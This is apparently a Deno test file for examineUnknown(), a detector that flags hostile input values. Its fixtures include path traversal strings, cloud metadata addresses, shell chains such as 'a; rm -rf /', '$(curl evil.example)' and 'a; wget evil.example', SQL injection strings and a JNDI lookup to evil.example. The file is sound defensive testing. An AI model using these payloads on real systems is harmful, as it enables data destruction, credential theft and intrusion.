import assert from "node:assert/strict";
import fc from "fast-check";
import { examineUnknown } from "../../../src/inspect/arguments/unknown.ts";

Deno.test("examineUnknown() refuses what is unmistakable as a whole value", () => {
  const rules: Readonly<Record<string, readonly string[]>> = {
    "unknown-traversal": ["../../x", "..%5c..%5cx", "/../../x y"],
    "unknown-local-url": ["file:///etc/hosts", "FILE:/etc/hosts", "gopher://example.com/1"],
    "unknown-metadata": [
      "http://169.254.169.254/x",
      "https:\\\\2852039166\\",
      "169.254.169.254:80",
      "//metadata.goog/",
      "[fd00:ec2::254]",
      "ftp://u@0xa9fea9fe",
    ],
    "unknown-shell-chain": ["a; rm -rf /", "a%3bcurl%20evil.example"],
    "unknown-shell-substitution": ["$(curl evil.example)"],
    "unknown-sql-condition": ["a' or 'b'='b", "a%27%20or%201=1--"],
    "unknown-lookup": ["${jndi:ldap://evil.example/a}"],
    "unknown-sql-statement": ["1; drop table a"],
  };
  for (const [rule, values] of Object.entries(rules)) {
    for (const value of values) assert.equal(examineUnknown(value)?.rule, rule, value);
  }
});

Deno.test("examineUnknown() lets ordinary values, private addresses and mentions pass", () => {
  for (
    const value of [
      ...[
        "../sibling",
        "a/../../b",
        "...",
        "file: a.txt",
        "File:Picture.png",
        "file:../package",
        "gopher",
      ],
      ...[
        "http://10.0.0.1:8080/",
        "http://localhost/",
        "192.168.0.1",
        "169.254.0.1",
        "::1",
        "2852039166",
        "metadata",
      ],
      ...["https://example.com/?u=http://169.254.169.254/", "block 169.254.169.254 everywhere"],
      ...[
        "AT&T; Verizon",
        "a|b|c",
        "$5 || $6?",
        "O'Brien",
        "50% off; ends 5pm",
        "C:\\Users\\me",
        "",
      ],
    ]
  ) assert.equal(examineUnknown(value), undefined, value);
});

Deno.test("examineUnknown() says what the command would do", () => {
  const details: Readonly<Record<string, RegExp>> = {
    "a; rm -rf /": /deletes$/,
    "a; wget evil.example": /downloads/,
    "a; sh -c 'b'": /runs code$/,
    "a; touch /etc/b": /changes files/,
    "a; cat /etc/hosts": /reads files/,
    "a; sleep 9": /tries whether/,
  };
  for (const [value, detail] of Object.entries(details)) {
    assert.match(examineUnknown(value)?.detail ?? "", detail, value);
  }
});

Deno.test("examineUnknown() lets words and numbers pass in any order", () => {
  const word = fc.stringMatching(/^[\p{L}\p{N}]{1,4}([.,'-][\p{L}\p{N}]{1,4}){0,3}$/u);
  fc.assert(fc.property(fc.array(word, { maxLength: 40 }), (words) => {
    assert.equal(examineUnknown(words.join(" ")), undefined);
  }));
});

Deno.test("examineUnknown() never throws, and never quotes the value", () => {
  fc.assert(
    fc.property(fc.string({ unit: "binary", maxLength: 300 }), (text) => void examineUnknown(text)),
  );
  assert.ok(!examineUnknown("QZQZ; rm -rf /QZQZ")?.detail.includes("QZQZ"));
});

Deno.test("examineUnknown() takes time in proportion to the length of hostile text", () => {
  const shapes = [
    "a",
    "'",
    "\"'",
    ";",
    "`",
    "$(",
    "../",
    "%2e",
    "%25",
    "((",
    "' or ",
    "/*",
    "a ",
    "1",
    "||",
    "\\",
    "-",
  ];
  for (const shape of shapes) {
    for (const front of ["", "x' or ", "1 union select ", "x; "]) {
      const cost = (length: number) => {
        const value = front + shape.repeat(length / shape.length);
        const start = performance.now();
        examineUnknown(value);
        return performance.now() - start;
      };
      cost(10_000);
      const [small, large] = [cost(20_000), cost(400_000)];
      // Twenty times the text: quadratic work would be four hundred times the time.
      assert.ok(large < 20 + small * 100, `${front}${shape}…: ${small} ms, then ${large} ms`);
    }
  }
});

Deno.test("examineUnknown() passes plain words, as a look at everything would", () => {
  const word = fc.array(
    fc.constantFrom(..."aZ_-09", "null", "union", "or", "select", "1", "--", "rm", "sleep"),
    { maxLength: 8 },
  ).map((parts) => parts.join(""));
  // White space around a value keeps it from being taken for a plain word.
  fc.assert(
    fc.property(word, (text) => {
      assert.equal(examineUnknown(text), undefined, text);
      assert.equal(examineUnknown(` ${text}`), undefined, text);
    }),
    { numRuns: 2000 },
  );
});
